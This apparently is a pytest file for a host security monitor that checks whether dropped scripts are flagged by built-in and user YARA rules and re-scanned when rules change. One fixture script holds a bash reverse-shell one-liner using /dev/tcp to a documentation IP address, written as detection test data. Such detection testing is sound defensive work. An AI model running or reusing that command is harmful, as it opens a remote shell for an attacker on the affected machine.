"""Looks put together from real parts."""

from __future__ import annotations

import os
from pathlib import Path

from periderm.flow.observed import Observed
from periderm.model.event import Event, EventFlag, EventKind
from periderm.model.settings import Settings
from periderm.wiring.looking import looks
from tests.flow.conftest import NODE
from tests.flow.test_payloads import batch


def test_a_dropped_script_is_found_by_own_and_users_rules(tmp_path: Path) -> None:
    """A real file of this process's file system, the real sandbox, our rules and a user's."""
    (tmp_path / "yara").mkdir()
    (tmp_path / "yara" / "mine.yar").write_text(
        'rule mine { meta: severity = "low" strings: $a = "marker-4711" condition: $a }'
    )
    (tmp_path / "yara" / "notes.txt").write_text("not a rule")
    script = tmp_path / "x.sh"
    script.write_text("#!/bin/bash\n# marker-4711\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n")
    told: list[Observed] = []
    looking = looks(Settings(state=str(tmp_path), cache=str(tmp_path)), told.append)
    event = Event(
        kind=EventKind.EXEC, subject=NODE, time=1, process=5, pid=os.getpid(), text="/usr/bin/bash", raw=str(script),
        flags=EventFlag.SCRIPT,
    )  # fmt: skip
    looking.offer(batch(event))
    assert looking.step() == 1
    assert looking.problem == ""
    (seen,) = told
    assert [(e.kind, e.raw, e.argv[1]) for e in seen.events] == [
        (EventKind.CONTENT, "CON-002", "critical"),
        (EventKind.CONTENT, "yara:mine", "low"),
    ]


def test_a_file_is_looked_at_again_when_the_rules_have_changed(tmp_path: Path) -> None:
    """A rule that was added today finds the file of yesterday, as soon as another file makes the change known."""
    (tmp_path / "yara").mkdir()
    told: list[Observed] = []
    looking = looks(Settings(state=str(tmp_path), cache=str(tmp_path)), told.append)

    def run(name: str, text: str) -> list[str]:
        (tmp_path / name).write_text(text)
        event = Event(
            kind=EventKind.EXEC, subject=NODE, time=1, process=5, pid=os.getpid(), text="/usr/bin/bash",
            raw=str(tmp_path / name), flags=EventFlag.SCRIPT,
        )  # fmt: skip
        told.clear()
        looking.offer(batch(event))
        looking.step()
        return [seen.raw for observed in told for seen in observed.events]

    assert run("a.sh", "#!/bin/sh\n# marker-4712\n") == []
    (tmp_path / "yara" / "mine.yar").write_text('rule mine { strings: $a = "marker-4712" condition: $a }')
    assert run("b.sh", "#!/bin/sh\n") == []
    assert run("a.sh", "#!/bin/sh\n# marker-4712\n") == ["yara:mine"]
